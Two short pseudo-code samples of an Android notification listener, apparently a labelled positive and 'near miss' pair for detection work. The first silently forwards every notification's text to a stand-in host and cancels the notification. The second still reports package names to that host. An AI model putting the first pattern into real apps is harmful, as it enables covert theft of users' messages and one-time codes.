permissions("INTERNET")

@service(permission="BIND_NOTIFICATION_LISTENER_SERVICE", actions=["android.service.notification.NotificationListenerService"])
class Listener(NotificationListenerService):
    def onNotificationPosted(self, posted):
        text = posted.getNotification().extras.getString("android.text")
        self.send(text)
        self.cancelNotification(posted.getKey())
    def send(self, text: String):
        connection = URL("https://example.org/in").openConnection()
        connection.getOutputStream().write(text.getBytes())

# near miss: removes what the user does not want to see, and reports only which app it was from
@service(permission="BIND_NOTIFICATION_LISTENER_SERVICE", actions=["android.service.notification.NotificationListenerService"])
class Listener(NotificationListenerService):
    def onNotificationPosted(self, posted):
        text = posted.getNotification().extras.getString("android.text")
        if text.contains("https://example.org/in"):
            self.cancelNotification(posted.getKey())
        self.send(posted.getPackageName())
    def send(self, text: String):
        connection = URL("https://example.org/in").openConnection()
        connection.getOutputStream().write(text.getBytes())
